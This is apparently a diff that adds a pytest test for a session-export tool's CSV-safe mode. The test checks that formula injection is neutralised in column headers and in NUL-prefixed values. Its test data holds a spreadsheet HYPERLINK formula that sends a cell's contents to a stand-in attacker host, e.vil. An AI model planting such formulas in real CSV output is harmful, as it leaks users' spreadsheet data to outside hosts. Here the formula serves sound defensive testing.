@@ -85,3 +85,26 @@ def test_csv_safe_in_bucket_mode(tmp_path: Path) -> None:
     out = tmp_path / "sessions.csv"
     sessionize.run([events], output=out, no_geo=True, csv_safe=True, buckets=3)
     assert [v for v in cells(out) if v.startswith(FORMULA_START)] == []
+
+
+def test_csv_safe_neutralises_column_names_and_leading_nul(tmp_path: Path) -> None:
+    """A header is a cell too: a rejects file keeps the input's column names, which the keys of a JSON
+    line choose. And a value starting with NUL (OWASP ASVS 5's list) is prefixed like the others."""
+    key = '=HYPERLINK("http://e.vil/?"&A2,"x")'
+    lines = [
+        '{"user_id": "u1", "timestamp": "2024-05-01T10:00:00Z", "url": "/a", "note": "\\u0000=1+1"}',
+        '{"user_id": "u2", "timestamp": "bad", "url": "/b", "' + key.replace('"', '\\"') + '": "v"}',
+    ]
+    source = tmp_path / "events.ndjson"
+    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out, rejects = tmp_path / "sessions.csv", tmp_path / "rejects.csv"
+    sessionize.run(
+        [source], output=str(out), no_geo=True, csv_safe=True, on_invalid="skip", rejects=str(rejects),
+        aggregates=["note=first(note)"],
+    )  # fmt: skip
+    for path in (out, rejects):
+        assert not [c for c in cells(path) if c.startswith((*FORMULA_START, "\0"))], path
+    with rejects.open(newline="", encoding="utf-8") as handle:
+        header = next(csv.reader(handle))
+    assert "'" + key in header
+    assert pl.read_csv(out)["note"].to_list() == ["'\0=1+1"]
